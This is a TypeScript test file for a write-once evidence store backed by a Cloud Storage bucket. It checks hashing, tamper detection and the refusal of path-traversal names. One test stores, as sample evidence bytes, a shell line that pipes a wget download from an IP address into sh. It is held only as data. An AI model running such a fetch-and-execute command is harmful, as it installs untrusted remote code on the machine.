import { startTestLab } from '../../test/lab-harness';
import type { Lab } from '../lab/server';
import { sha256Of } from '../cases/evidence-store';
import type { CloudTarget } from './config';
import { InvalidTargetError } from './errors';
import { GcsEvidenceStore } from './gcs-evidence';

let lab: Lab;
let target: CloudTarget;

beforeAll(async () => {
  const started = await startTestLab();
  lab = started.lab;
  target = started.target;
});

afterAll(async () => {
  await lab?.stop();
});

test('artifacts go to the bucket under their SHA-256, binary-exact, and come back checked', async () => {
  const store = new GcsEvidenceStore(target, 'acme-scc-evidence');
  const bytes = Buffer.concat([Buffer.from('\x7fELF\r\n--not-a-boundary\r\n'), Buffer.alloc(70_000, 0xff), Buffer.from([0, 13, 10])]);
  const stored = await store.put(bytes);
  expect(stored).toEqual({ sha256: sha256Of(bytes), path: `gs://acme-scc-evidence/evidence/${sha256Of(bytes)}`, size: bytes.length });
  expect((await store.get(stored.sha256)).equals(bytes)).toBe(true);
  expect(lab.calls.storage).toBeGreaterThanOrEqual(2);
});

test('write-once: storing the same bytes again changes nothing, and nothing can replace them', async () => {
  const store = new GcsEvidenceStore(target, 'acme-scc-evidence', 'cases/');
  const bytes = Buffer.from('#!/bin/sh\nwget http://198.51.100.23/x | sh\n');
  const first = await store.put(bytes);
  const object = () => lab.gcs.objects('acme-scc-evidence').get(`cases/${first.sha256}`)!;
  const generation = object().metadata.generation;
  expect(await store.put(bytes)).toEqual(first);
  expect(object().metadata.generation).toBe(generation);
  // Bytes altered behind the store's back are refused on the way out.
  object().bytes = Buffer.from('something else');
  await expect(store.get(first.sha256)).rejects.toThrow(`evidence ${first.sha256} at gs://acme-scc-evidence/cases/${first.sha256} was altered`);
});

test('a bucket or prefix that is no name is refused before any request', () => {
  expect(() => new GcsEvidenceStore(target, 'Evil Bucket/..')).toThrow(InvalidTargetError);
  expect(() => new GcsEvidenceStore(target, 'acme-scc-evidence', '../up/')).toThrow(/object prefix/);
});
